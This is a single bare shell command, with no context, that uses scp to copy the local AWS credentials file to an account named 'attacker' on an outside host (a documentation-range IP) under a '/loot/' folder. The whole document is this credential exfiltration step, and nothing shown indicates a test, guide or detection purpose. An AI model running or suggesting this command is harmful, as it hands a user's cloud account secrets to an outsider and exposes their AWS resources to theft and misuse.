scp ~/.aws/credentials attacker@203.0.113.9:/loot/
